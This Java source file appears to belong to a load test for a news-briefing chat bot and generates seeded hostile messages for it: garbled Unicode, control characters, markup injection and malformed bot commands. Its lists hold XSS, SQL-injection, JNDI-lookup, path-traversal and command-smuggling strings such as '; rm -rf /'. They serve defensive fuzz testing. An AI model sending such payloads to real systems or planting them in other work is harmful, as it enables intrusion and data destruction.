package dev.briefing.loadtest;

import java.util.List;
import java.util.Random;

/**
 * Generated hostile chat messages, reproducible from a seed: random Unicode (astral emoji, RTL and
 * bidi controls, zero-width and combining characters, lone surrogates), control characters and NUL,
 * HTML, Markdown and mrkdwn injection, commands with garbage arguments, and now and then a text of
 * about 1 MB.
 */
final class HostileInput {
  /** Markup a user might type hoping it comes out live. */
  static final List<String> INJECTIONS =
      List.of(
          "<b>bold</b>",
          "</code>",
          "<code>",
          "</pre></blockquote>",
          "<script>alert(1)</script>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<a href='https://evil.example'>click</a>",
          "<tg-spoiler>secret</tg-spoiler>",
          "<blockquote>quoted</blockquote>",
          "<b>Sources</b>",
          "<img src=x onerror=alert(1)>",
          "*bold*",
          "_italic_",
          "~strike~",
          "`code`",
          "```pre```",
          "> quote",
          "<!channel>",
          "<!here>",
          "<!everyone>",
          "<!subteam^S123|@team>",
          "<@U123>",
          "<@U0BOT>",
          "<#C123|general>",
          "<https://evil.example|click here>",
          "<mailto:a@b.c|mail>",
          "&amp;",
          "&lt;b&gt;",
          "&#60;b&#62;",
          "&#x3C;script&#x3E;",
          "&nbsp;",
          "&",
          "<",
          ">",
          "]]>",
          "{{7*7}}",
          "${jndi:ldap://evil.example/a}",
          "%s%n%x",
          "' OR 1=1 --",
          "\"; DROP TABLE subscriptions; --",
          "\u202egnp.exe",
          "[link](https://evil.example)",
          "@everyone",
          "@channel");

  /** Commands with arguments nobody should type. */
  static final List<String> GARBAGE_COMMANDS =
      List.of(
          "/subscribe 99:99 Mars/Olympus",
          "/subscribe 25:00",
          "/subscribe -1:-1",
          "/subscribe weekdays 07:30 Europe/Berlin<b>",
          "/subscribe 08:00 ../../etc/passwd",
          "/subscribe every 0 seconds",
          "/subscribe 08:00 GMT+99",
          "/use -1",
          "/use 0",
          "/use 99999999999999999999999",
          "/use <script>",
          "/use 1e9",
          "/articles 1e9",
          "/articles -5",
          "/articles NaN",
          "/articles 99999999999999999999",
          "/timezone '; DROP TABLE subscriptions; --",
          "/timezone <!channel>",
          "/timezone Mars/Olympus",
          "/timezone ../../../../etc/passwd",
          "/timezone UTC+99:99",
          "/unsubscribe all; rm -rf /",
          "/unsubscribe 1e400",
          "/unsubscribe -9223372036854775808",
          "/unsubscribe 9223372036854775808",
          "/summary 0",
          "/summary 1e9",
          "/summary -2147483648",
          "/summary <b>3</b>",
          "/feed add javascript:alert(1)",
          "/feed add http://127.0.0.1:1/rss",
          "/feed add <https://evil.example|feed>",
          "/feed remove 999999",
          "/feed remove <@U123>",
          "/feed",
          "/digest <@U123>",
          "/subscriptions <!here>",
          "/ask",
          "/ask <b>What</b> did <script>Lavrov</script> say?",
          "/help me <!channel>",
          "/start\u0000",
          "/xyz<b>",
          "/<script>",
          "/@@@",
          "/",
          "//",
          "/ask@OtherBot hi",
          "/SUMMARY 2");

  private static final String[] WORDS =
      "what did Lavrov say about NATO Russia war Stoltenberg the a and or why who when".split(" ");

  private final Random random;

  HostileInput(long seed) {
    this.random = new Random(seed);
  }

  /** The {@code i}-th message: a mix weighted so every kind appears thousands of times. */
  String next(int i) {
    if (i % 20_000 == 1_234) {
      return megabyte(i);
    }
    int kind = random.nextInt(100);
    if (kind < 20) {
      return randomUnicode(1 + random.nextInt(300));
    } else if (kind < 30) {
      return controlCharacters();
    } else if (kind < 50) {
      return injected();
    } else if (kind < 70) {
      return garbageCommand();
    } else if (kind < 72) {
      return "/add " + binary(1 + random.nextInt(2_000));
    } else if (kind < 85) {
      return question() + " " + randomUnicode(1 + random.nextInt(40));
    }
    return mixed();
  }

  /** About 1 MB of ASCII (the webhook endpoints take up to 1 MiB): three shapes in turn. */
  String megabyte(int i) {
    StringBuilder text = new StringBuilder(1_000_010);
    switch ((i / 20_000) % 3) {
      case 0 -> {
        while (text.length() < 999_000) {
          text.append(WORDS[random.nextInt(WORDS.length)]).append(' ');
        }
      }
      case 1 -> text.append("/summary ").append("9".repeat(990_000));
      default -> text.append("/").append("x".repeat(990_000)); // an unknown command, echoed
    }
    return text.toString();
  }

  private String randomUnicode(int length) {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < length; i++) {
      switch (random.nextInt(12)) {
        case 0 -> text.appendCodePoint(0x1F300 + random.nextInt(0x700)); // emoji, astral
        case 1 -> text.appendCodePoint(0x0590 + random.nextInt(0x370)); // Hebrew, Arabic, RTL
        case 2 ->
            text.append("\u200b\u200c\u200d\u200e\u200f\u2060\ufeff".charAt(random.nextInt(7)));
        case 3 ->
            text.append(
                "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069".charAt(random.nextInt(9)));
        case 4 -> text.appendCodePoint(0x0300 + random.nextInt(0x70)); // combining marks
        case 5 -> text.append((char) (0xD800 + random.nextInt(0x800))); // lone surrogate
        case 6 -> text.appendCodePoint(0x20000 + random.nextInt(0xA000)); // CJK extension B
        case 7 -> text.append((char) random.nextInt(0x20)); // C0 controls, NUL included
        case 8 -> text.appendCodePoint(0xE000 + random.nextInt(0x1900)); // private use
        case 9 -> text.append("\u2028\u2029\u0085\u00a0".charAt(random.nextInt(4)));
        default -> text.appendCodePoint(0x20 + random.nextInt(0x2000));
      }
    }
    return text.toString();
  }

  private String controlCharacters() {
    StringBuilder text = new StringBuilder();
    int length = 1 + random.nextInt(50);
    for (int i = 0; i < length; i++) {
      text.append(
          random.nextBoolean()
              ? (char) random.nextInt(0x20)
              : (char) (0x7f + random.nextInt(0x21)));
    }
    return random.nextBoolean() ? text.toString() : question() + text + "\u0000";
  }

  private String injected() {
    StringBuilder text = new StringBuilder();
    int parts = 1 + random.nextInt(4);
    for (int i = 0; i < parts; i++) {
      text.append(random.nextBoolean() ? question() : "")
          .append(' ')
          .append(INJECTIONS.get(random.nextInt(INJECTIONS.size())))
          .append(' ');
    }
    return random.nextInt(4) == 0 ? "/ask " + text : text.toString();
  }

  private String garbageCommand() {
    String command = GARBAGE_COMMANDS.get(random.nextInt(GARBAGE_COMMANDS.size()));
    return random.nextInt(3) == 0
        ? command + " " + INJECTIONS.get(random.nextInt(INJECTIONS.size()))
        : command;
  }

  private String binary(int length) {
    StringBuilder text = new StringBuilder("Headline ").append(random.nextInt(1000)).append('\n');
    for (int i = 0; i < length; i++) {
      text.append((char) random.nextInt(256));
    }
    return text.toString();
  }

  private String question() {
    return SampleBot.QUESTIONS.get(random.nextInt(SampleBot.QUESTIONS.size()));
  }

  private String mixed() {
    return injected() + randomUnicode(1 + random.nextInt(20)) + garbageCommand();
  }
}
